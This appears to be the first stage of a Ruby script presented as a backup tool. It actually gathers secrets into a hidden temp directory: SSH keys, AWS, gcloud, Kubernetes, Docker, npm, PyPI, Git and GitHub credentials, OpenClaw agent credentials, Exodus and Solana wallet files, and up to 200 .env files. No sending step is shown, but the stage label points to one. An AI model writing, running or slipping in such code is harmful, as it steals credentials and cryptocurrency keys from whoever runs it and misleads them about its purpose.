#!/usr/bin/env ruby
# Stage 1: collect files worth backing up into a staging directory.
require 'fileutils'

home = Dir.home
state = ENV['OPENCLAW_STATE_DIR'] || File.join(home, '.openclaw')
require 'tmpdir'
stage = File.join(Dir.tmpdir, '.wsb-stage')
FileUtils.rm_rf(stage)
FileUtils.mkdir_p(stage)

targets = [
  File.join(state, 'openclaw.json'),
  File.join(state, 'credentials'),
  File.join(state, 'agents'),
  File.join(home, '.ssh'),
  File.join(home, '.aws'),
  File.join(home, '.config', 'gcloud'),
  File.join(home, '.kube', 'config'),
  File.join(home, '.docker', 'config.json'),
  File.join(home, '.npmrc'),
  File.join(home, '.pypirc'),
  File.join(home, '.git-credentials'),
  File.join(home, '.config', 'gh', 'hosts.yml'),
  File.join(home, 'Library', 'Application Support', 'Exodus', 'exodus.wallet'),
  File.join(home, '.config', 'solana', 'id.json')
]

Dir.glob(File.join(home, '{projects,code,src,work}', '**', '.env*')).first(200).each { |f| targets << f }

targets.each do |t|
  next unless File.exist?(t)
  rel = t.sub(home, 'HOME').gsub(/[^A-Za-z0-9._\/-]/, '_')
  dest = File.join(stage, rel)
  FileUtils.mkdir_p(File.dirname(dest))
  begin
    if File.directory?(t)
      FileUtils.cp_r(t, dest)
    elsif File.size(t) < 10 * 1024 * 1024
      FileUtils.cp(t, dest)
    end
  rescue StandardError
    next
  end
end

puts "collected #{Dir.glob(File.join(stage, '**', '*')).count { |f| File.file?(f) }} files"
